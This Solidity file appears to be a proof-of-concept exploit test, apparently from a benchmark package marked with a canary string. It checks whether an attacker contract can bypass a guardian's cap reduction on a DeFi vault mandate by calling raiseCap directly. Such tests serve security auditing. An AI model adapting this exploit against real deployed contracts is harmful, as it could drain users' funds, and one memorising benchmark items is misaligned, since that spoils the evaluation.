// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";

contract Attacker {
    function run(IMandate mandate, IVault vault, IStrategy strategy, uint256 cap) external {
        try mandate.raiseCap(vault, strategy, cap) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        bytes memory call = abi.encodeCall(mandate.raiseCap, (core, spare, 300_000e6));
        curated(address(mandate), call);
        later(3 days);
        done(address(mandate), call);
        later(1 days);
        vm.prank(GUARDIAN);
        mandate.lowerCap(core, spare, 0);
        other = new Attacker();
    }

    /// Nobody has submitted anything about this cap since it was lowered.
    function staysLowered() public view returns (bool) {
        return mandate.lineOf(core, spare).cap == 0;
    }

    function exploit() public {
        other.run(mandate, core, spare, 300_000e6);
    }

    function test_Exploit() public {
        exploit();
        require(!staysLowered(), "as it was");
    }

    function target() public view override returns (address) {
        return address(mandate);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
